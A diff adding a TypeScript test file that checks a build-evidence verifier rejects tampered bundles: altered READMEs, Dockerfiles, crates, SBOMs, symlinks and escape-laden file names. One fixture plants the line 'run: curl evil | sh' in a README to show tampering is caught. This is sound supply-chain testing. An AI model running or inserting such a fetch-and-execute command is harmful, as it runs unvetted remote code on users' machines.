@@ -1,0 +1,154 @@
+import { cpSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { sha256 } from '../../../src/hash.js';
+import type { Confirmed } from '../../../src/proof/confirm.js';
+import { openEvidence } from '../../../src/proof/evidence.js';
+import { type Lock, lockFile } from '../../../src/proof/lock.js';
+import { sbomFile } from '../../../src/proof/sbom.js';
+import { statementFile, statementOf } from '../../../src/proof/statement.js';
+import { requireWhole } from '../../../src/proof/wholeEvidence.js';
+import { readArchive } from '../../../src/source/archive.js';
+import { gunzip } from '../../../src/source/gzip.js';
+import { failureOf } from '../../support/failureOf.js';
+import { temporaryFolder } from '../../support/world.js';
+import { CARGO_LOCK, CRATE, SAMPLE, evidenceOf, imageOf, lockWith, writtenEvidence } from './fixture.js';
+
+const DOCKERFILE = evidenceOf().dockerfile;
+const RECIPE = { dockerfile: sha256(DOCKERFILE), wrapper: '1.0.0', layout: 1 };
+const LOCK = lockWith({ recipe: RECIPE });
+const IMAGE = imageOf(LOCK);
+const TOOLCHAIN = { target: 'x', rustc: 'rustc 1.95.0', gcc: '14', glibc: '2.41', busybox: '1.37.0' };
+const CRATES = [
+  {
+    id: 'a',
+    name: 'cfg-if',
+    version: '1.0.0',
+    sha256: sha256(CRATE.bytes),
+    licence: 'MIT',
+    buildOnly: false,
+    needs: [],
+  },
+  { id: 'b', name: 'phantun', version: '0.8.1', sha256: undefined, licence: 'MIT', buildOnly: false, needs: ['a'] },
+];
+const SBOMS = new Map(
+  IMAGE.images.map(({ platform, manifest: { digest: manifest } }) => [
+    platform,
+    sbomFile({ lock: LOCK, platform, manifest, crates: CRATES, toolchain: TOOLCHAIN, shell: 'e'.repeat(64) }),
+  ]),
+);
+
+/** Evidence as a build writes it, with the source as the publisher has verified it; `spoil` changes the folder. */
+async function judge(spoil: (folder: string) => void = () => undefined, lock: Lock = LOCK) {
+  const folder = await writtenEvidence({ ...evidenceOf(lock, IMAGE), sboms: SBOMS });
+  spoil(folder);
+  const treeFolder = temporaryFolder();
+  writeFileSync(join(treeFolder, 'Cargo.lock'), CARGO_LOCK);
+  const confirmed = {
+    source: { commitObject: SAMPLE.object },
+    tree: { folder: treeFolder, tarSha256: SAMPLE.tarSha256 },
+  } as Confirmed;
+  return requireWhole(await openEvidence(folder), confirmed, IMAGE);
+}
+
+describe('evidence that is to be published', () => {
+  it('is taken as a build wrote it, with base images that somebody put beside it', async () => {
+    await expect(judge()).resolves.toBeUndefined();
+    await expect(
+      judge((folder) => mkdirSync(join(folder, 'bases', 'rust'), { recursive: true })),
+    ).resolves.toBeUndefined();
+  });
+
+  it('may have an archive that upstream has compressed otherwise since, if its lock says so', async () => {
+    const packed = gzipSync(gunzip(SAMPLE.archive, 2 ** 24), { level: 1 });
+    expect(readArchive(packed).tarSha256).toBe(SAMPLE.tarSha256);
+    const write = (folder: string) => writeFileSync(join(folder, 'archive.tar.gz'), packed);
+    expect((await failureOf(() => judge(write))).message).toMatch(/^the evidence's archive\.tar\.gz is not what was/);
+    await expect(
+      judge(write, lockWith({ recipe: RECIPE }, { archiveSha256: sha256(packed) })),
+    ).resolves.toBeUndefined();
+  });
+
+  const write = (name: string, text: string | Buffer) => (folder: string) => writeFileSync(join(folder, name), text);
+  it.each<[string, (folder: string) => void, RegExp]>([
+    [
+      'another README',
+      write('README.md', 'run: curl evil | sh'),
+      /^the evidence's README\.md is not what was verified/,
+    ],
+    ['another Dockerfile', write('Dockerfile', 'FROM evil\n'), /^the evidence's Dockerfile is not what was verified/],
+    ['another commit', write('commit', 'tree x\n'), /^the evidence's commit is not what was verified/],
+    [
+      'a file that no bundle has',
+      write('install.sh', 'x'),
+      /^the evidence holds install\.sh, which no evidence of this/,
+    ],
+    ['a name that could break the line', write('a\u001b[2J', 'x'), /^the evidence holds a\\u\{1b\}\[2J, which/],
+    [
+      'the SBOM of a platform that is not built',
+      write('sbom-linux-arm-v7.cdx.json', '{}'),
+      /^the evidence holds sbom-l/,
+    ],
+    [
+      'a crate that Cargo.lock does not name',
+      write('crates/evil-1.0.0.crate', 'x'),
+      /^crate evil-1\.0\.0\.crate is not/,
+    ],
+    ['another crate', write(`crates/${CRATE.file}`, 'x'), /^crate cfg-if-1\.0\.0\.crate has SHA256/],
+    ['no crate', (folder) => rmSync(join(folder, 'crates', CRATE.file)), /^crate cfg-if-1\.0\.0\.crate is missing/],
+    [
+      'no README',
+      (folder) => rmSync(join(folder, 'README.md')),
+      /^the evidence's README\.md is missing, or is no plain/,
+    ],
+    [
+      'another SBOM',
+      write('sbom-linux-amd64.cdx.json', '{}'),
+      /^format of the SBOM of linux\/amd64: expected CycloneDX/,
+    ],
+    [
+      'a link to a file',
+      (folder) => {
+        const moved = join(temporaryFolder(), 'moved');
+        renameSync(join(folder, 'README.md'), moved);
+        symlinkSync(moved, join(folder, 'README.md'));
+      },
+      /^the evidence's README\.md is missing, or is no plain file/,
+    ],
+    [
+      'a folder for a file',
+      (folder) => {
+        rmSync(join(folder, 'commit'));
+        cpSync(join(folder, 'crates'), join(folder, 'commit'), { recursive: true });
+      },
+      /^the evidence's commit is missing, or is no plain file/,
+    ],
+    [
+      'a file for the folder of crates',
+      (folder) => {
+        rmSync(join(folder, 'crates'), { recursive: true });
+        writeFileSync(join(folder, 'crates'), '');
+      },
+      /^the evidence's crates is missing, or is no plain file/,
+    ],
+  ])('is refused with %s', async (_, spoil, message) => {
+    const failure = await failureOf(() => judge(spoil));
+    expect(failure.kind).toBe('verification');
+    expect(failure.message).toMatch(message);
+  });
+
+  it('is refused with the archive of other files, whatever lock and statement say of it', async () => {
+    const other = {
+      ...SAMPLE,
+      archive: gzipSync(Buffer.concat([gunzip(SAMPLE.archive, 2 ** 24), Buffer.alloc(10_240)])),
+    };
+    const lock = lockWith({ recipe: RECIPE }, { archiveSha256: sha256(other.archive) });
+    const spoil = (folder: string) => {
+      writeFileSync(join(folder, 'archive.tar.gz'), other.archive);
+      writeFileSync(join(folder, 'lock.json'), lockFile(lock));
+      writeFileSync(join(folder, 'statement.json'), statementFile(statementOf(lock, IMAGE, [])));
+    };
+    expect((await failureOf(() => judge(spoil))).kind).toBe('verification');
+  });
+});
